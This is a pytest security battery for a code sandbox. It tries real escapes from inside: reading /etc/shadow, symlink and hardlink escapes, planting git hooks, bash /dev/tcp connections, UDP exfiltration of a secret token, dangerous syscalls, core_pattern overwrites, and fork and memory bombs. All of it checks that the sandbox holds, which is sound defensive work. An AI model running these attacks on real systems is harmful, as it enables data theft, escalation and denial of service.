"""The security battery: real attacks from inside each isolated tier, each checked on the host.

Cases are grouped as the issue lists them: filesystem, secrets, network,
kernel surface, limits and clean-up, load. Egress through the gateway
(allowlist, rebinding, fronting, secret injection, CA key) is in
``test_egress.py``.

Worktree disk fill: a sandbox tier has no quota of its own for the worktree,
which is a host directory; the cap is the filesystem the operator puts the
work root on. The case here gives the sandbox a 16 MB tmpfs as its worktree
and checks that filling it stops there and that nothing else on the host can
be written (so a quota'd work root is a real cap).
"""

from __future__ import annotations

import errno
import hashlib
import os
import socket
import stat
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from pathlib import Path

import pytest
from battery_support import PYTHON, host_processes_with, policy, run_inside

from codeevolver.sandbox import Sandbox
from codeevolver.workspace.git import GitWorkspace, git

DENIED = {errno.EPERM, errno.EACCES, errno.ENOSYS}


def no_token(result, token: str) -> None:
    assert token not in result.stdout and token not in result.stderr


def host_ip() -> str:
    """An address of this host on a real interface (no packet is sent)."""
    probe = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    try:
        probe.connect(("10.255.255.255", 1))
        return probe.getsockname()[0]
    except OSError:
        return "127.0.0.1"
    finally:
        probe.close()


@pytest.fixture
def outside(tmp_path: Path, token: str) -> Path:
    """A host secret next to (not inside) the worktree."""
    folder = tmp_path / "outside"
    folder.mkdir()
    secret = folder / "secret.txt"
    secret.write_text(token)
    return secret


class Listener:
    """A host TCP or UDP server that counts what reaches it."""

    def __init__(self, family: int, kind: int, address: str) -> None:
        self.sock = socket.socket(family, kind)
        self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        self.sock.bind((address, 0))
        self.port = self.sock.getsockname()[1]
        self.hits = 0
        if kind == socket.SOCK_STREAM:
            self.sock.listen(16)
        self.sock.settimeout(0.2)
        self.kind = kind
        self.stop = threading.Event()
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self) -> None:
        while not self.stop.is_set():
            try:
                if self.kind == socket.SOCK_STREAM:
                    conn, _ = self.sock.accept()
                    conn.close()
                else:
                    self.sock.recvfrom(65536)
                self.hits += 1
            except OSError:
                continue

    def close(self) -> None:
        time.sleep(0.3)
        self.stop.set()
        self.thread.join()
        self.sock.close()


@pytest.fixture
def tcp4() -> Iterator[Listener]:
    listener = Listener(socket.AF_INET, socket.SOCK_STREAM, "0.0.0.0")
    yield listener
    listener.close()


# --- filesystem -----------------------------------------------------------------------------------


def test_host_secret_outside_the_worktree_is_unreadable(sandbox: Sandbox, work: Path, outside: Path, token: str):
    code = f"""
    out["direct"] = attempt(lambda: open({str(outside)!r}).read())
    found = []
    tops = ["/etc", "/tmp", "/root", "/home", "/opt", "/var", "/srv", "/mnt", "/run", os.environ["HOME"]]
    for top in tops:
        for dirpath, dirnames, filenames in os.walk(top):
            for name in filenames:
                try:
                    with open(os.path.join(dirpath, name), "rb") as fh:
                        if {token!r}.encode() in fh.read(1 << 20):
                            found.append(os.path.join(dirpath, name))
                except OSError:
                    pass
    out["found"] = found
    """
    result = run_inside(sandbox, code, policy(work))
    assert result.data["direct"]["ok"] is False
    assert result.data["found"] == []
    no_token(result, token)


def test_etc_shadow_and_host_passwd_are_not_there(sandbox: Sandbox, work: Path):
    code = """
    out["shadow"] = attempt(lambda: open("/etc/shadow").read())
    out["gshadow"] = attempt(lambda: open("/etc/gshadow").read())
    out["passwd"] = attempt(lambda: open("/etc/passwd").read())
    """
    result = run_inside(sandbox, code, policy(work))
    assert result.data["shadow"]["ok"] is False and result.data["gshadow"]["ok"] is False
    host_lines = set(Path("/etc/passwd").read_text().splitlines())
    inside_lines = set(str(result.data["passwd"].get("value") or "").splitlines())
    assert not host_lines & inside_lines, "the host's /etc/passwd is visible"


@pytest.mark.parametrize("folder", ["/usr", "/etc", "/opt", "/"])
def test_system_folders_are_not_writable(sandbox: Sandbox, work: Path, token: str, folder: str):
    target = os.path.join(folder, f"ce-evil-{token}")
    code = f"""
    out["create"] = attempt(lambda: open({target!r}, "w").write("x"))
    out["mkdir"] = attempt(lambda: os.mkdir({target!r} + ".d"))
    out["passwd"] = attempt(lambda: open("/etc/passwd", "a").write("# ce-test\\n"))  # harmless if it got through
    """
    before = hashlib.sha256(Path("/etc/passwd").read_bytes()).hexdigest()
    result = run_inside(sandbox, code, policy(work))
    assert result.data["create"]["ok"] is False and result.data["mkdir"]["ok"] is False
    assert result.data["passwd"]["ok"] is False
    assert not os.path.lexists(target) and not os.path.lexists(target + ".d")
    assert hashlib.sha256(Path("/etc/passwd").read_bytes()).hexdigest() == before


def test_tmp_does_not_reach_the_host(sandbox: Sandbox, work: Path, token: str):
    host_file = Path(f"/tmp/ce-host-{token}")
    host_file.write_text(token)
    try:
        code = f"""
        out["sees_host"] = os.path.exists({str(host_file)!r})
        out["listing"] = [n for n in os.listdir("/tmp") if n.startswith("ce-host-")]
        open("/tmp/ce-sandbox-{token}", "w").write("x")
        """
        result = run_inside(sandbox, code, policy(work))
        assert result.returncode == 0, result.stderr
        assert result.data["sees_host"] is False and result.data["listing"] == []
        assert not Path(f"/tmp/ce-sandbox-{token}").exists()
    finally:
        host_file.unlink()


def test_symlink_escape_from_the_worktree(sandbox: Sandbox, work: Path, outside: Path, token: str):
    code = f"""
    os.symlink({str(outside)!r}, "leak")
    os.symlink({str(outside.parent)!r}, "leakdir")
    os.symlink("/etc/shadow", "shadow")
    out["file"] = attempt(lambda: open("leak").read())
    out["dir"] = attempt(lambda: os.listdir("leakdir"))
    out["shadow"] = attempt(lambda: open("shadow").read())
    """
    result = run_inside(sandbox, code, policy(work))
    assert [result.data[k]["ok"] for k in ("file", "dir", "shadow")] == [False, False, False]
    no_token(result, token)


@pytest.fixture
def repo(tmp_path: Path) -> tuple[Path, str]:
    root = tmp_path / "repo"
    root.mkdir()
    (root / "app.py").write_text("print('hi')\n")
    git("init", "-q", cwd=root)
    git("add", "-A", cwd=root)
    git("commit", "-q", "-m", "init", cwd=root)
    return root, git("rev-parse", "HEAD", cwd=root).strip()


def test_host_side_commit_never_follows_a_symlink_out(sandbox: Sandbox, tmp_path, outside, token, repo):
    root, head = repo
    workspace = GitWorkspace(root, tmp_path / "worktrees")
    tree = workspace.export(head, tmp_path / "worktrees" / "cand")
    code = f"""
    os.symlink({str(outside)!r}, "leak.txt")
    os.symlink({str(outside.parent)!r}, "leakdir")
    os.symlink("/etc/shadow", "shadow")
    """
    assert run_inside(sandbox, code, policy(tree)).returncode == 0
    commit = workspace.commit_dir(tree, head, "candidate")
    assert commit is not None
    listing = git("ls-tree", "-r", commit, cwd=root)
    assert "120000 blob" in listing  # stored as links, not as the files they point at
    assert git("cat-file", "-p", f"{commit}:leak.txt", cwd=root) == str(outside)
    assert token not in workspace.diff(head, commit)
    assert subprocess.run(["git", "grep", "-q", token, commit], cwd=root).returncode == 1


def test_hardlink_escape_from_the_worktree(sandbox: Sandbox, work: Path, outside: Path):
    code = f"""
    out["secret"] = attempt(lambda: os.link({str(outside)!r}, "h1"))
    out["python"] = attempt(lambda: os.link("/usr/bin/python3", "h2"))
    out["passwd"] = attempt(lambda: os.link("/etc/passwd", "h3"))
    """
    result = run_inside(sandbox, code, policy(work))
    assert [result.data[k]["ok"] for k in ("secret", "python", "passwd")] == [False, False, False]
    assert outside.stat().st_nlink == 1
    host_inodes = {os.stat(p).st_ino for p in (outside, "/usr/bin/python3", "/etc/passwd")}
    assert not {p.stat().st_ino for p in work.iterdir()} & host_inodes


def test_git_hooks_and_fsmonitor_written_inside_never_run_on_the_host(sandbox, tmp_path, repo):
    root, head = repo
    marker = tmp_path / "pwned"
    workspace = GitWorkspace(root, tmp_path / "worktrees")
    tree = workspace.export(head, tmp_path / "worktrees" / "cand")
    hook = f"#!/bin/sh\ntouch {marker}\n"
    config = f'[core]\n\tfsmonitor = touch {marker}\n\thooksPath = .git/hooks\n[filter "x"]\n\tclean = touch {marker}\n'
    code = f"""
    os.makedirs(".git/hooks")
    for name in ("pre-commit", "post-commit", "commit-msg", "post-checkout", "fsmonitor-watchman"):
        with open(".git/hooks/" + name, "w") as fh:
            fh.write({hook!r})
        os.chmod(".git/hooks/" + name, 0o755)
    with open(".git/config", "w") as fh:
        fh.write({config!r})
    with open(".gitattributes", "w") as fh:
        fh.write("* filter=x\\n")
    with open("app.py", "a") as fh:
        fh.write("print('changed')\\n")
    """
    assert run_inside(sandbox, code, policy(tree)).returncode == 0
    commit = workspace.commit_dir(tree, head, "candidate")
    assert commit is not None
    workspace.diff(head, commit)
    assert not marker.exists()
    # The repository's own config never picked up what the candidate wrote (read with plain git,
    # not our wrapper, which forces core.fsmonitor=false on every call).
    plain = subprocess.run(["git", "config", "--local", "--list"], cwd=root, capture_output=True, text=True)
    assert "fsmonitor" not in plain.stdout and "hookspath" not in plain.stdout.lower()
    assert not (root / ".git" / "hooks" / "pre-commit").exists()


def test_a_repos_own_git_dir_is_read_only_inside(sandbox: Sandbox, tmp_path: Path, repo):
    root, _ = repo
    marker = tmp_path / "pwned"
    code = f"""
    out["hook"] = attempt(lambda: open(".git/hooks/pre-commit", "w").write("#!/bin/sh\\ntouch {marker}\\n"))
    out["config"] = attempt(lambda: open(".git/config", "a").write("[core]\\n\\tfsmonitor = touch {marker}\\n"))
    """
    result = run_inside(sandbox, code, policy(root))
    assert result.data["hook"]["ok"] is False and result.data["config"]["ok"] is False
    (root / "app.py").write_text("print('again')\n")
    who = {"GIT_AUTHOR_NAME": "t", "GIT_AUTHOR_EMAIL": "t@t", "GIT_COMMITTER_NAME": "t", "GIT_COMMITTER_EMAIL": "t@t"}
    subprocess.run(["git", "commit", "-qam", "hooks on"], cwd=root, check=True, env={**os.environ, **who})
    assert not marker.exists()


def test_setuid_bits_cannot_be_planted_in_the_worktree(sandbox: Sandbox, work: Path):
    code = """
    open("f", "w").write("#!/bin/sh\\n")
    out["chmod"] = attempt(lambda: os.chmod("f", 0o4755))
    out["setgid"] = attempt(lambda: os.chmod("f", 0o2755))
    out["open"] = attempt(lambda: os.close(os.open("g", os.O_CREAT | os.O_WRONLY, 0o4755)))
    out["mknod"] = attempt(lambda: os.mknod("h", 0o104755))
    out["cp"] = attempt(lambda: __import__("shutil").copy2("/usr/bin/mount", "m"))
    """
    run_inside(sandbox, code, policy(work))
    for path in work.rglob("*"):
        mode = path.lstat().st_mode
        assert not mode & (stat.S_ISUID | stat.S_ISGID), f"{path.name} has mode {oct(mode)} on the host"


def test_host_root_and_home_are_not_exposed(sandbox: Sandbox, work: Path):
    code = """
    out["root"] = sorted(os.listdir("/root")) if os.path.isdir("/root") else None
    out["home"] = sorted(os.listdir("/home")) if os.path.isdir("/home") else None
    """
    result = run_inside(sandbox, code, policy(work))
    assert not set(result.data["root"] or []) & set(os.listdir("/root"))
    assert not result.data["home"]


# --- secrets --------------------------------------------------------------------------------------


def test_environment_holds_no_secret(sandbox: Sandbox, work: Path, token: str, monkeypatch):
    monkeypatch.setenv("CODEEVOLVER_TEST_SECRET", token)
    monkeypatch.setenv("ANTHROPIC_API_KEY", token)
    code = """
    out["env"] = dict(os.environ)
    out["environ"] = open("/proc/self/environ", "rb").read().decode("utf-8", "replace")
    """
    result = run_inside(sandbox, code, policy(work, env={"PLAIN": "1"}))
    assert result.data["env"].get("PLAIN") == "1"
    assert "CODEEVOLVER_TEST_SECRET" not in result.data["env"] and "ANTHROPIC_API_KEY" not in result.data["env"]
    no_token(result, token)


def test_no_secret_in_any_cmdline_environ_or_file(sandbox: Sandbox, work: Path, token: str, monkeypatch):
    monkeypatch.setenv("CODEEVOLVER_TEST_SECRET", token)
    helper = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(60)", token])
    try:
        code = f"""
        hits = []
        for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
            for what in ("cmdline", "environ"):
                try:
                    if {token!r}.encode() in open(f"/proc/{{pid}}/{{what}}", "rb").read():
                        hits.append(f"{{pid}}/{{what}}")
                except OSError:
                    pass
        for top in ("/etc", "/tmp", "/run", "/var", os.getcwd(), os.environ.get("HOME", "/tmp")):
            for dirpath, _, filenames in os.walk(top):
                for name in filenames:
                    try:
                        if {token!r}.encode() in open(os.path.join(dirpath, name), "rb").read(1 << 20):
                            hits.append(os.path.join(dirpath, name))
                    except OSError:
                        pass
        out["hits"] = hits
        """
        result = run_inside(sandbox, code, policy(work))
        assert result.returncode == 0, result.stderr
        assert result.data["hits"] == []
        no_token(result, token)
    finally:
        helper.kill()
        helper.wait()


# --- network --------------------------------------------------------------------------------------


def test_direct_tcp_by_ipv4_literal(sandbox: Sandbox, work: Path, tcp4: Listener):
    targets = [(host_ip(), tcp4.port), ("127.0.0.1", tcp4.port), ("1.1.1.1", 443), ("169.254.169.254", 80)]
    code = f"""
    for target in {targets!r}:
        out[f"{{target[0]}}:{{target[1]}}"] = attempt(lambda: socket.create_connection(target, timeout=2).close())
    """
    result = run_inside(sandbox, code, policy(work))
    assert result.data and all(v["ok"] is False for v in result.data.values()), result.data
    assert tcp4.hits == 0


def test_direct_tcp_by_ipv6_literal(sandbox: Sandbox, work: Path):
    listener = Listener(socket.AF_INET6, socket.SOCK_STREAM, "::")
    try:
        targets = [("::1", listener.port), ("2606:4700:4700::1111", 443)]
        with open("/proc/net/if_inet6") as fh:
            for line in fh:
                raw, scope = line.split()[0], line.split()[3]
                if scope == "00":  # global
                    targets.append((socket.inet_ntop(socket.AF_INET6, bytes.fromhex(raw)), listener.port))
        code = f"""
        for host, port in {targets!r}:
            def go(host=host, port=port):
                s = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)
                s.settimeout(2)
                s.connect((host, port))
            out[f"[{{host}}]:{{port}}"] = attempt(go)
        """
        result = run_inside(sandbox, code, policy(work))
        assert result.data and all(v["ok"] is False for v in result.data.values()), result.data
    finally:
        listener.close()
    assert listener.hits == 0


def test_bash_dev_tcp(sandbox: Sandbox, work: Path, tcp4: Listener):
    targets = [f"{host_ip()}/{tcp4.port}", "1.1.1.1/80", f"127.0.0.1/{tcp4.port}"]
    script = "; ".join(f"(exec 3<>/dev/tcp/{target} && echo CONNECTED)" for target in targets)
    result = sandbox.run(["/bin/bash", "-c", script], policy(work, timeout_s=20))
    assert "CONNECTED" not in result.stdout
    assert tcp4.hits == 0


def test_dns_lookup_fails(sandbox: Sandbox, work: Path):
    code = """
    for name in ("example.com", "pypi.org", "metadata.google.internal"):
        out[name] = attempt(lambda: socket.getaddrinfo(name, 443))
    """
    result = run_inside(sandbox, code, policy(work))
    assert result.data and all(v["ok"] is False for v in result.data.values()), result.data


def test_udp_53_exfiltration(sandbox: Sandbox, work: Path, token: str):
    listener = Listener(socket.AF_INET, socket.SOCK_DGRAM, "0.0.0.0")
    try:
        code = f"""
        payload = {token!r}.encode()
        for target in [({host_ip()!r}, {listener.port}), ("8.8.8.8", 53), ("127.0.0.53", 53), ("1.1.1.1", 53)]:
            def go(target=target):
                s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
                s.sendto(payload, target)
                s.settimeout(0.5)
                return s.recv(100)
            out[f"{{target[0]}}:{{target[1]}}"] = attempt(go)
        """
        result = run_inside(sandbox, code, policy(work))
        assert result.data and all(v["ok"] is False for v in result.data.values()), result.data
    finally:
        listener.close()
    assert listener.hits == 0


def test_abstract_unix_socket_of_the_host_is_unreachable(sandbox: Sandbox, work: Path, token: str):
    server = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    server.bind("\0" + token)
    server.listen(4)
    server.settimeout(0.5)
    try:
        code = f"""
        out["connect"] = attempt(lambda: socket.socket(socket.AF_UNIX).connect("\\0" + {token!r}))
        """
        result = run_inside(sandbox, code, policy(work))
        assert result.data["connect"]["ok"] is False
        with pytest.raises(TimeoutError):
            server.accept()
    finally:
        server.close()


def test_only_loopback_inside(sandbox: Sandbox, work: Path):
    code = """
    out["ifaces"] = [l.split(":")[0].strip() for l in open("/proc/net/dev").read().splitlines()[2:]]
    out["routes"] = open("/proc/net/route").read().splitlines()[1:]
    """
    result = run_inside(sandbox, code, policy(work))
    assert set(result.data["ifaces"]) <= {"lo"}
    assert result.data["routes"] == []


# --- kernel surface -------------------------------------------------------------------------------

SYSCALLS = {
    # name: Python expression returning (ret, errno), run inside
    "ptrace_attach_pid1": "sc(101, 16, 1, 0, 0)",
    "mount_tmpfs": "sc(165, b'none', b'/tmp', b'tmpfs', 0, 0)",
    "umount2": "sc(166, b'/proc', 2)",
    "pivot_root": "sc(155, b'/tmp', b'/tmp')",
    "open_tree": "sc(428, -100, b'/', 1)",
    "fsopen": "sc(430, b'tmpfs', 0)",
    "unshare_user": "sc(272, 0x10000000)",
    "unshare_net": "sc(272, 0x40000000)",
    "unshare_mount": "sc(272, 0x00020000)",
    "setns_net": "sc(308, os.open('/proc/self/ns/net', os.O_RDONLY), 0)",
    "clone_newuser": "clone_newuser()",
    "bpf_map_create": "sc(321, 0, ctypes.create_string_buffer(struct.pack('IIII', 2, 4, 4, 1) + bytes(56)), 72)",
    "keyctl_user_keyring": "sc(250, 0, -4, 0)",
    "perf_event_open": "sc(298, ctypes.create_string_buffer(128), 0, -1, -1, 0)",
    "userfaultfd": "sc(323, 0)",
    "io_uring_setup": "sc(425, 1, ctypes.create_string_buffer(120))",
    "kexec_load": "sc(246, 0, 0, 0, 0)",
    "finit_module": "sc(313, 0, b'', 0)",
    "delete_module": "sc(176, b'ext4', 0)",
    "open_by_handle_at": "sc(304, -100, ctypes.create_string_buffer(64), 0)",
    "syslog_read_all": "sc(103, 3, ctypes.create_string_buffer(4096), 4096)",
    "af_packet": "sock(17, 3, 0x0300)",
    "af_vsock": "sock(40, 1, 0)",
}

SYSCALL_HELPERS = """
def clone_newuser():
    ret, err = sc(56, 0x10000000 | 17, 0, 0, 0, 0)
    if ret == 0:
        os._exit(0)
    if ret > 0:
        os.waitpid(ret, 0)
    return ret, err

def sock(family, kind, proto):
    try:
        socket.socket(family, kind, proto).close()
        return 0, 0
    except OSError as exc:
        return -1, exc.errno
"""


@pytest.mark.parametrize("name", sorted(SYSCALLS))
def test_kernel_surface_is_denied(sandbox: Sandbox, work: Path, name: str):
    code = SYSCALL_HELPERS + f"\nret, err = {SYSCALLS[name]}\nout['ret'] = ret\nout['errno'] = err\n"
    result = run_inside(sandbox, code, policy(work))
    assert result.data, result.stderr
    assert result.data["ret"] == -1, f"{name} succeeded inside the sandbox"
    accepted = DENIED | {errno.EAFNOSUPPORT} if name.startswith("af_") else DENIED
    assert result.data["errno"] in accepted, f"{name} failed with {errno.errorcode.get(result.data['errno'])}"


def test_ptrace_and_process_vm_readv_of_a_sibling_fail(sandbox: Sandbox, work: Path, token: str):
    code = f"""
    r, w = os.pipe()
    pid = os.fork()
    if pid == 0:
        buf = ctypes.create_string_buffer({token!r}.encode())
        os.write(w, str(ctypes.addressof(buf)).encode())
        time.sleep(10)
        os._exit(0)
    addr = int(os.read(r, 64))
    local = ctypes.create_string_buffer(64)
    iov_local = struct.pack("QQ", ctypes.addressof(local), 64)
    iov_remote = struct.pack("QQ", addr, 64)
    lb, rb = ctypes.create_string_buffer(iov_local), ctypes.create_string_buffer(iov_remote)
    out["vm_readv"] = list(sc(310, pid, lb, 1, rb, 1, 0))
    out["read"] = local.value.decode("latin-1")
    out["attach"] = list(sc(101, 16, pid, 0, 0))
    out["mem"] = attempt(lambda: open(f"/proc/{{pid}}/mem", "rb").read(1))
    os.kill(pid, 9)
    """
    result = run_inside(sandbox, code, policy(work))
    assert result.data["vm_readv"][0] == -1 and result.data["vm_readv"][1] in DENIED
    assert result.data["attach"][0] == -1 and result.data["attach"][1] in DENIED
    assert token not in result.data["read"]
    no_token(result, token)


def test_mount_and_unshare_commands_fail(sandbox: Sandbox, work: Path):
    script = (
        "mkdir -p /tmp/m; mount -t tmpfs none /tmp/m && echo MOUNTED; "
        "unshare -U true && echo USERNS; unshare -Ur id && echo USERNS; unshare -n true && echo NETNS; "
        "unshare -m true && echo MNTNS; true"
    )
    result = sandbox.run(["/bin/sh", "-c", script], policy(work))
    for word in ("MOUNTED", "USERNS", "NETNS", "MNTNS"):
        assert word not in result.stdout


def test_host_processes_are_invisible_and_unkillable(sandbox: Sandbox, work: Path, token: str):
    helper = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(60)", token])
    try:
        code = f"""
        pids = [int(p) for p in os.listdir("/proc") if p.isdigit()]
        out["count"] = len(pids)
        out["seen"] = [p for p in pids if {token!r}.encode() in open(f"/proc/{{p}}/cmdline", "rb").read()]
        out["kill"] = attempt(lambda: os.kill({helper.pid}, 9))
        """
        result = run_inside(sandbox, code, policy(work))
        assert result.data["seen"] == []
        assert result.data["count"] < 20
        time.sleep(0.2)
        assert helper.poll() is None, "the sandbox killed a host process"
    finally:
        helper.kill()
        helper.wait()


def test_sys_and_runtime_sockets_are_absent(sandbox: Sandbox, work: Path):
    sockets = [
        "/var/run/docker.sock",
        "/run/docker.sock",
        "/run/containerd/containerd.sock",
        "/run/podman/podman.sock",
        "/run/dbus/system_bus_socket",
        "/run/systemd/private",
    ]
    code = f"""
    out["sys"] = os.listdir("/sys") if os.path.isdir("/sys") else None
    out["cgroupfs"] = os.path.exists("/sys/fs/cgroup")
    out["sockets"] = [p for p in {sockets!r} if os.path.exists(p)]
    out["run"] = sorted(os.listdir("/run")) if os.path.isdir("/run") else []
    """
    result = run_inside(sandbox, code, policy(work))
    assert not result.data["sys"] and result.data["cgroupfs"] is False
    assert result.data["sockets"] == []
    assert not set(result.data["run"]) & set(os.listdir("/run"))


def test_kernel_log_is_unreadable(sandbox: Sandbox, work: Path):
    result = sandbox.run(["/bin/sh", "-c", "dmesg 2>&1 | head -5; cat /dev/kmsg 2>&1 | head -1"], policy(work))
    host = subprocess.run(["dmesg"], capture_output=True, text=True).stdout.splitlines()[:20]
    for line in host:
        if len(line) > 20:
            assert line not in result.stdout


def test_keyring_of_the_host_is_untouched(sandbox: Sandbox, work: Path, token: str):
    code = f"""
    out["add"] = list(sc(248, b"user", {token!r}.encode(), b"payload", 7, -4))
    out["session"] = list(sc(248, b"user", {token!r}.encode(), b"payload", 7, -3))
    """
    result = run_inside(sandbox, code, policy(work))
    assert result.data["add"][0] == -1 and result.data["session"][0] == -1
    assert token not in Path("/proc/keys").read_text()


def test_setuid_binaries_give_no_escalation(sandbox: Sandbox, work: Path):
    # no_new_privs (PR_GET_NO_NEW_PRIVS = 39) is what makes a set-uid bit inert; gVisor's
    # /proc/self/status has no NoNewPrivs line, so the prctl is the check both tiers answer.
    nnp = "import ctypes; print('NNP', ctypes.CDLL(None).prctl(39, 0, 0, 0, 0))"
    script = (
        f'{PYTHON} -c "{nnp}"; '
        "grep -E '^(NoNewPrivs|CapEff|CapBnd):' /proc/self/status; "
        "mount -t tmpfs none /tmp 2>&1 && echo ESCALATED; "
        "su -c 'id -u' root </dev/null 2>&1 && echo ESCALATED; "
        "newgrp root </dev/null 2>&1 && echo ESCALATED; "
        "chfn -f x 2>&1 </dev/null && echo ESCALATED; id -u"
    )
    result = sandbox.run(["/bin/sh", "-c", script], policy(work))
    lines = result.stdout.splitlines()
    assert "ESCALATED" not in result.stdout
    assert "NNP 1" in lines, result.stdout + result.stderr
    status = dict(line.split(":\t", 1) for line in lines if line.startswith(("NoNewPrivs:", "CapEff:", "CapBnd:")))
    assert status.get("NoNewPrivs", "1") == "1"  # where the tier reports it at all
    assert status["CapEff"] == status["CapBnd"] == "0000000000000000"
    assert lines[-1] == "65534"  # still the sandbox user after every attempt


def test_tiocsti_cannot_inject_keystrokes(sandbox: Sandbox, work: Path):
    code = """
    import fcntl, pty
    try:
        master, slave = pty.openpty()
        out["own_pty"] = attempt(lambda: fcntl.ioctl(slave, 0x5412, b"x"))
    except OSError as exc:
        out["own_pty"] = {"ok": False, "error": f"no pty: {exc}"}
    out["stdio"] = [attempt(lambda fd=fd: fcntl.ioctl(fd, 0x5412, b"x"))["ok"] for fd in (0, 1, 2)]
    out["tty"] = attempt(lambda: os.open("/dev/tty", os.O_RDWR))
    """
    result = run_inside(sandbox, code, policy(work))
    assert result.data["own_pty"]["ok"] is False
    assert result.data["stdio"] == [False, False, False]
    assert result.data["tty"]["ok"] is False


def test_host_kernel_settings_are_not_writable(sandbox: Sandbox, work: Path):
    """A sandbox once rewrote the host's core_pattern (a root shell on the next crash): never again."""
    watched = ["/proc/sys/kernel/core_pattern", "/proc/sys/kernel/core_uses_pid", "/proc/sys/kernel/modprobe"]
    before = {p: Path(p).read_text() for p in watched if os.path.exists(p)}
    code = f"""
    for path in {[*watched, "/proc/sysrq-trigger", "/proc/sys/vm/drop_caches"]!r}:
        def go(path=path):
            with open(path, "w") as fh:  # harmless values, in case a broken tier lets them through
                fh.write("core-ce-test\\n" if path.endswith("core_pattern") else "1\\n")
        out[path] = attempt(go)
    """
    try:
        result = run_inside(sandbox, code, policy(work))
        assert result.data["/proc/sys/kernel/core_pattern"]["ok"] is False
        assert {p: Path(p).read_text() for p in before} == before
    finally:
        for path, value in before.items():
            if Path(path).read_text() != value:
                Path(path).write_text(value)


def test_runtime_binaries_cannot_be_overwritten(sandbox: Sandbox, work: Path):
    binaries = [p for p in ("/usr/bin/bwrap", "/usr/bin/runsc", "/usr/bin/python3") if os.path.exists(p)]
    before = {p: hashlib.sha256(Path(p).read_bytes()).hexdigest() for p in binaries}
    code = """
    for path in ("/proc/1/exe", "/proc/self/exe", "/usr/bin/python3"):
        out[path] = attempt(lambda path=path: open(path, "r+b").close())  # opening for write is enough
    """
    result = run_inside(sandbox, code, policy(work))
    assert all(v["ok"] is False for v in result.data.values()), result.data
    assert {p: hashlib.sha256(Path(p).read_bytes()).hexdigest() for p in binaries} == before


# --- limits and clean-up --------------------------------------------------------------------------


def test_fork_bomb_is_capped(sandbox: Sandbox, work: Path, token: str):
    code = """
    n = 0
    for _ in range(300):
        try:
            pid = os.fork()
        except OSError:
            break
        if pid == 0:
            time.sleep(20)
            os._exit(0)
        n += 1
    out["forked"] = n
    """
    # the token is in every child's command line: the host looks for leftovers by it
    result = run_inside(sandbox, code, policy(work, pids=32, timeout_s=15), args=(token,))
    assert "forked" in result.data, f"the fork bomb never reported (exit {result.returncode}): {result.stderr[-2000:]}"
    forked = result.data["forked"]
    assert 0 < forked <= 40, f"forked {forked} processes with pids=32"
    time.sleep(0.2)
    assert host_processes_with(token) == []


def test_memory_bomb_is_killed(sandbox: Sandbox, work: Path):
    code = """
    held = []
    for i in range(32):  # at most 512 MB even if no limit holds
        held.append(bytearray(16 << 20))
        print("MB", 16 * (i + 1), flush=True)
    """
    result = run_inside(sandbox, code, policy(work, memory_mb=64, timeout_s=30))
    reached = max([int(line.split()[1]) for line in result.stdout.splitlines() if line.startswith("MB ")] or [0])
    assert result.returncode != 0
    assert reached < 128, f"allocated {reached} MB under a 64 MB limit"


@pytest.mark.parametrize("folder", ["/tmp", "/dev/shm"])
def test_private_tmpfs_fill_is_capped(sandbox: Sandbox, work: Path, folder: str):
    code = f"""
    written = 0
    try:
        with open({folder!r} + "/fill", "wb") as fh:
            for _ in range(64):
                fh.write(b"x" * (1 << 20))
                fh.flush()
                written += 1
    except OSError as exc:
        out["error"] = exc.errno
    out["mb"] = written
    """
    result = run_inside(sandbox, code, policy(work, tmp_mb=8, memory_mb=256))
    assert result.data.get("mb", 0) <= 9, result.data
    assert result.data.get("error") in (errno.ENOSPC, errno.EFBIG, errno.EDQUOT)


@pytest.fixture
def small_worktree(tmp_path: Path) -> Iterator[Path]:
    """A 16 MB tmpfs: the quota an operator gives the work root (needs root to mount)."""
    if os.geteuid() != 0:
        pytest.fail("this case mounts a 16 MB tmpfs as the worktree and needs root")
    path = tmp_path / "quota"
    path.mkdir()
    subprocess.run(["mount", "-t", "tmpfs", "-o", "size=16m,mode=0755", "tmpfs", str(path)], check=True)
    try:
        yield path
    finally:
        subprocess.run(["umount", "-l", str(path)], check=False)


def test_worktree_fill_stops_at_its_filesystem(sandbox: Sandbox, small_worktree: Path):
    code = """
    written = 0
    try:
        with open("fill", "wb") as fh:
            for _ in range(64):
                fh.write(b"x" * (1 << 20))
                fh.flush()
                written += 1
    except OSError as exc:
        out["error"] = exc.errno
    out["mb"] = written
    out["elsewhere"] = {}
    for folder in ("/", "/usr", "/var", "/etc"):
        out["elsewhere"][folder] = attempt(lambda: open(folder + "/fill", "wb").write(b"x"))
    """
    result = run_inside(sandbox, code, policy(small_worktree, memory_mb=256))
    assert result.data.get("mb", 99) <= 16 and result.data.get("error") == errno.ENOSPC, result.data
    assert all(v["ok"] is False for v in result.data["elsewhere"].values())


def test_daemonized_process_is_gone_after_the_run(sandbox: Sandbox, work: Path, token: str):
    code = f"""
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.execv("/bin/sh", ["sh", "-c", "while true; do echo . >> heartbeat; sleep 0.05; done", {token!r}])
        os._exit(0)
    time.sleep(0.3)
    out["started"] = os.path.exists("heartbeat")
    """
    result = run_inside(sandbox, code, policy(work))
    assert result.returncode == 0 and result.data["started"] is True
    size = (work / "heartbeat").stat().st_size
    time.sleep(0.5)
    assert (work / "heartbeat").stat().st_size == size, "a daemon kept running after the sandbox returned"
    assert host_processes_with(token) == []


def test_timeout_kills_everything(sandbox: Sandbox, work: Path, token: str):
    script = (
        "for i in 1 2 3 4 5; do (while true; do echo . >> beat$i; sleep 0.05; done) & done; "
        f"setsid sh -c 'while true; do echo . >> beat-d; sleep 0.05; done' {token} & "
        "sleep 60"
    )
    started = time.monotonic()
    result = sandbox.run(["/bin/sh", "-c", script], policy(work, timeout_s=2))
    assert (result.returncode, result.timed_out) == (124, True)
    assert time.monotonic() - started < 15
    sizes = {p.name: p.stat().st_size for p in work.glob("beat*")}
    assert len(sizes) == 6
    time.sleep(0.5)
